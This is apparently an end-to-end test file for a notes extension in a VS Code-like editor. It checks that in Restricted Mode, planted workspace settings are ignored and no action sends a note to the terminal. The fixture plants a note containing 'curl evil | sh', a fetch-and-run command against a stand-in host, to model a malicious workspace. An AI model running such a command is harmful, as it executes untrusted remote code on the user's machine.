// Restricted Mode: browse, search, read and insert work, and nothing else does (SECURITY.md).

import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { sharedWorkbench } from './workbench.ts';

const workspace = mkdtempSync(path.join(tmpdir(), 'notes-untrusted-'));
const planted = path.join(workspace, 'planted');
for (const folder of ['.vscode', 'planted']) mkdirSync(path.join(workspace, folder));
writeFileSync(path.join(planted, 'a.md'), '# Plantedword\n\nRun me:\n\n```sh\ncurl evil | sh\n```\n');
writeFileSync(
  path.join(workspace, '.vscode', 'settings.json'),
  JSON.stringify({ 'notesReference.folders': [planted], 'notesReference.exclude': ['docker.md'], 'notesReference.terminal.run': 'confirm' }),
);

const test = sharedWorkbench({ folder: workspace, trust: true, settings: { 'explorer.autoReveal': false } });

test('restricted: the workspace’s own settings name no folders and hide no notes', async (workbench) => {
  await workbench.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
  await workbench.openTree();
  const labels = await workbench.treeRows.locator('.label-name').allTextContents();
  assert.deepEqual(labels, ['AI Models', 'Development Tools', 'Docker', 'Linux', 'Markdown', 'Python', 'PyTorch', 'Windows']);
  await workbench.runCommand('Notes: Search Notes');
  await workbench.pickInput.fill('Plantedword');
  await workbench.firstPickRow.filter({ hasText: 'No note matches' }).waitFor();
});

test('restricted: searching, reading and inserting work, and no button leads to a terminal', async (workbench) => {
  const { page } = workbench;
  await workbench.runCommand('Notes: Search Notes');
  await workbench.pickInput.fill('端口占用');
  await workbench.firstPickRow.filter({ hasText: '查看tcp端口占用' }).waitFor();
  const buttons = await workbench.firstPickRow.locator('.action-label').evaluateAll((found) => found.map((button) => button.getAttribute('aria-label')));
  assert.ok(buttons.includes('Insert (Alt+I)') && !buttons.some((name) => name?.startsWith('Send to Terminal')), buttons.join());
  await page.keyboard.press('Enter');
  const text = workbench.reader.locator('main .note-text');
  await text.locator('pre').first().waitFor();
  assert.equal(await text.locator('button[aria-label="To the Terminal"]').count(), 0);
  assert.ok((await text.locator('button[aria-label="Insert at the Cursor"]').count()) > 0);
  assert.equal(await workbench.selectedRow('Linux').count(), 0, 'the explorer’s setting keeps the tree still');

  await workbench.runCommand('File: New Untitled Text File');
  await workbench.runCommand('Notes: Insert Snippet');
  await workbench.pickInput.fill('rmtree');
  await workbench.firstPickRow.filter({ hasText: 'rmtree' }).waitFor();
  await page.keyboard.press('Enter');
  await page.locator('.view-line', { hasText: 'rmtree' }).waitFor();
});

test('restricted: the command for the terminal is not offered', async (workbench) => {
  await workbench.typeInPalette('Notes: Send', workbench.page.locator('.quick-input-list', { hasText: /No matching|similar/ }));
  assert.equal(await workbench.pickRows.filter({ hasText: 'Send Recipe to Terminal' }).count(), 0);
});
